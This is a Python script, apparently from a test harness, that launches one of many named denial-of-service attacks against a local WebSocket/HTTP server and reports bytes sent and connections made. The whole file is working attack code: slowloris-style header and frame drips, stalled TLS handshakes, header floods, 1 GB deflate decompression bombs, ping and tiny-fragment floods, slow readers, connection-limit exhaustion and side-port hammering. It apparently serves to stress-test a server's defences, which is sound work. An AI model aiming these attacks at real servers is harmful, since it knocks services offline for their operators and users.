"""One attack from a process of its own: attacker.py NAME PORT SIDE_PORT, until its standard input ends.

Prints a line when it has begun, and at its end one of JSON: bytes sent, connections made, what was given up.
"""

import json
import os
import select
import selectors
import signal
import sys
import threading

from wire import BINARY, CONTINUATION, MIB, PING, RSV1, TEXT, connect, deflated, frame, over_tls, request, reset, upgraded


class Attack:
    """What has been done, and whether it goes on."""

    def __init__(self, port, side_port):
        self.port, self.side_port = port, side_port
        self.sent, self.made, self.refused = 0, 0, 0
        self.begun, self.ends = threading.Event(), threading.Event()

    def begin(self):
        """All is prepared: what is measured may begin."""
        self.begun.set()

    def goes_on(self):
        return not self.ends.is_set()

    def send(self, one, data):
        one.sendall(data)
        self.sent += len(data)

    def again(self, what):
        """Makes connections one after the other, whatever becomes of them."""
        self.begin()
        while self.goes_on():
            try:
                what()
                self.made += 1
            except OSError:
                self.refused += 1

    def hold(self, count, make):
        """Opens so many connections and keeps those that it gets."""
        held = []
        for number in range(count):
            try:
                held.append(make(number))
                self.made += 1
            except OSError:
                self.refused += 1
        return held

    def drip(self, held, byte):
        """One byte on each connection a second, as long as the other side keeps them."""
        self.begin()
        watch = selectors.DefaultSelector()
        for one in held:
            one.setblocking(False)
            watch.register(one, selectors.EVENT_READ)
        while not self.ends.wait(1):
            for one in [key.fileobj for key, _ in watch.select(0)]:
                try:
                    if one.recv(65536):
                        continue
                except OSError:
                    pass
                watch.unregister(one)
                self.refused += 1
            for key in list(watch.get_map().values()):
                try:
                    self.sent += key.fileobj.send(byte)
                except OSError:
                    pass

    def flood(self, one, data):
        """The same bytes again and again while the other side takes them; what comes back is dropped."""
        one.setblocking(False)
        at = 0
        while self.goes_on():
            readable, writable, _ = select.select([one], [one], [], 0.2)
            if readable and not one.recv(1 << 18):
                raise ConnectionError("ended")
            if writable:
                done = one.send(data[at : at + (1 << 18)])
                self.sent, at = self.sent + done, (at + done) % len(data)


def slow_head(attack):
    held = attack.hold(2000, lambda number: _begun(attack, number % 8))
    attack.drip(held, b"x")


def _begun(attack, source):
    one = connect(attack.port, source=source)
    attack.send(one, b"GET / HTTP/1.1\r\nHost: localhost\r\nX-Slow: ")
    return one


def slow_frame(attack):
    head = frame(TEXT, b"x" * 60000)[:8]
    held = attack.hold(500, lambda number: _framed(attack, head))
    attack.drip(held, b"x")


def _framed(attack, head):
    one = upgraded(attack.port)
    attack.send(one, head)
    return one


def slow_tls(attack):
    # A record of a ClientHello whose length will never come.
    held = attack.hold(1000, lambda number: _framed_tls(attack))
    attack.drip(held, b"\x00")


def _framed_tls(attack):
    one = connect(attack.port)
    attack.send(one, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03")
    return one


def endless_heads(attack):
    data = b"GET / HTTP/1.1\r\nHost: localhost\r\nX-Endless: " + b"x" * (MIB // 4)

    def once():
        one = connect(attack.port)
        attack.send(one, data)
        reset(one)

    attack.again(once)


def many_headers(attack):
    data = request(b"".join(b"X-%d: y\r\n" % number for number in range(1100)))

    def once():
        one = connect(attack.port)
        attack.send(one, data)
        one.recv(4096)
        reset(one)

    attack.again(once)


def bomb(attack):
    """1 GB of zeros in 1 MB, again on a new connection when it was closed."""
    data = frame(BINARY, deflated(bytes(MIB) for _ in range(1000)), rsv=RSV1)

    def once():
        one = upgraded(attack.port, compressed=True)
        attack.send(one, data)
        _read_to_end(one)

    attack.again(once)


def bomb_in_fragments(attack):
    whole = deflated(bytes(MIB) for _ in range(1000))
    pieces = [whole[at : at + 1000] for at in range(0, len(whole), 1000)]
    data = frame(BINARY, pieces[0], fin=False, rsv=RSV1)
    for piece in pieces[1:]:
        data += frame(CONTINUATION, fin=False) + frame(CONTINUATION, piece, fin=False)

    def once():
        one = upgraded(attack.port, compressed=True)
        attack.send(one, data)
        _read_to_end(one)

    attack.again(once)


def empty_blocks(attack):
    """A message of stored blocks without a byte, 5 octets each: much to inflate, nothing to gain by it."""
    data = frame(BINARY, b"\x00\x00\x00\xff\xff" * (MIB // 5) + b"\x00", rsv=RSV1)
    attack.again(lambda: attack.flood(upgraded(attack.port, compressed=True), data))


def tables(attack):
    """Compressed messages of a few bytes, each with Huffman tables of its own."""
    chunks = [os.urandom(400).hex().encode() for _ in range(64)]
    data = b"".join(frame(BINARY, deflated([chunk]), rsv=RSV1) for chunk in chunks)
    attack.again(lambda: attack.flood(upgraded(attack.port, compressed=True), data * 16))


def pings(attack):
    attack.again(lambda: attack.flood(upgraded(attack.port), frame(PING, b"ping") * 8192))


def tiny_messages(attack):
    attack.again(lambda: attack.flood(upgraded(attack.port), frame(BINARY, b"x") * 8192))


def tiny_fragments(attack):
    data = frame(BINARY, b"x", fin=False), frame(CONTINUATION, b"x", fin=False) * 8192

    def once():
        one = upgraded(attack.port)
        attack.send(one, data[0])
        attack.flood(one, data[1])

    attack.again(once)


def empty_fragments(attack):
    data = frame(BINARY, fin=False), frame(CONTINUATION, fin=False) * 8192

    def once():
        one = upgraded(attack.port)
        attack.send(one, data[0])
        attack.flood(one, data[1])

    attack.again(once)


def slow_readers(attack):
    """50 that send echoes of 1 MiB and read none."""
    data = frame(BINARY, os.urandom(MIB))
    held = attack.hold(50, lambda number: upgraded(attack.port, receive_buffer=4096))
    for one in held:
        one.setblocking(False)
    at = dict.fromkeys(held, 0)
    attack.begin()
    while attack.goes_on():
        _, writable, _ = select.select([], held, [], 0.2)
        for one in writable:
            try:
                done = one.send(data[at[one] :])
            except OSError:
                held.remove(one)
                continue
            attack.sent, at[one] = attack.sent + done, (at[one] + done) % len(data)


def reconnects(attack):
    def once():
        one = upgraded(attack.port)
        attack.sent += len(request())
        reset(one)

    attack.again(once)


def bare_connects(attack):
    attack.again(lambda: reset(connect(attack.port)))


def tls_reconnects(attack):
    def once():
        one = over_tls(connect(attack.port))
        reset(one)

    attack.again(once)


def too_many(attack):
    """3000 clients that stay, where 1000 may."""
    attack.begin()
    held = attack.hold(3000, lambda number: upgraded(attack.port))
    attack.ends.wait()
    for one in held:
        one.close()


def side_port(attack):
    def once():
        one = connect(attack.side_port)
        attack.send(one, b"GET /metrics HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
        _read_to_end(one)

    attack.again(once)


def _read_to_end(one):
    try:
        while one.recv(65536):
            pass
    finally:
        one.close()


def main():
    name, port, side_port_number = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    attack = Attack(port, side_port_number)
    signal.signal(signal.SIGPIPE, signal.SIG_IGN)
    thread = threading.Thread(target=globals()[name], args=(attack,), daemon=True)
    thread.start()
    attack.begun.wait(60)
    print(json.dumps({"phase": "begun"}), flush=True)
    sys.stdin.read()
    attack.ends.set()
    thread.join(10)
    print(json.dumps({"sent": attack.sent, "made": attack.made, "refused": attack.refused}), flush=True)


if __name__ == "__main__":
    main()
